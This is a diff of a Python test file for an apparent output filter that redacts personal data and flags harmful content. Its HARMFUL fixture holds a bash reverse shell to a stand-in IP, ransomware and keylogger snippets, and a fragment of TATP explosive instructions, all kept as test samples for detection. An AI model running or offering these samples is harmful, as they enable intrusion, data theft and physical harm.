@@ -1,6 +1,7 @@
 """What a goal asks for, place-holders, harmful content, and results that agree with themselves."""
 
 import pytest
+from pydantic import JsonValue
 
 from toolguild.outgoing import consistency, personal
 from toolguild.outgoing.harmful import harms
@@ -40,7 +41,7 @@ def test_the_same_value_has_the_same_place_holder_everywhere_and_is_counted_each
 
 def test_long_lists_and_records_are_looked_through_like_short_ones() -> None:
     texts = [f"row {i}" for i in range(2 * MANY)] + [f"to {MAIL}."]
-    rows = [{"note": text, "n": i} for i, text in enumerate(texts)]
+    rows: list[JsonValue] = [{"note": text, "n": i} for i, text in enumerate(texts)]
     redactor = Redactor(personal=personal.found)
 
     assert redactor.value(list(texts), "answer") == [*texts[:-1], "to [email 1]."]
@@ -69,7 +70,7 @@ def test_two_keys_that_become_one_stay_two() -> None:
 
 HARMFUL = {
     "reverse-shell": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
-    "ransomware": "for root, d, f in os.walk(home):\n  Fernet(k).encrypt(x)\nprint('Your files have been encrypted, "
+    "ransomware": "for root, d, f in os.walk(home):\n  Fernet(k).encrypt(x)\nprint('Your files are encrypted, "
     "send 0.5 bitcoin to this address')",
     "keylogger": "from pynput import keyboard\ndef send(): requests.post(url, data={'keys': buffer})",
     "explosive": "TATP: slowly add 50 ml of acetone to hydrogen peroxide and stir, then attach the fuse.",
